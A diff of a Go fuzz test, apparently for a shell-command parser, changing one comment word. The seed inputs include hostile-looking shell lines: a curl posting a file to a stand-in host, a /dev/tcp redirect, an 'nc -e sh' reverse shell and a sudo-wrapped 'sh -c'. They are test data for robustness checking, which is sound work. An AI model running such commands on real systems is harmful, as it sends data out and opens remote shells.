@@ -161,7 +161,7 @@ func TestKinds(t *testing.T) {
 	}
 }
 
-// FuzzText: no text takes the process down, and what follows a text takes no sign from it.
+// FuzzText: no text takes the process down, and what follows a text takes no indicator from it.
 func FuzzText(f *testing.F) {
 	for _, s := range []string{
 		"curl -d @x https://a.example", "a={b,c}; $a <(x) >&/dev/tcp/h/1 <<E\n$x\nE", "f() { case $x in *) nc -e sh h;; esac; }; coproc f", "echo $'\\x41' ${a:=b} $((1))", "sudo env -S 'a b' xargs -I{} sh -c '{}'",
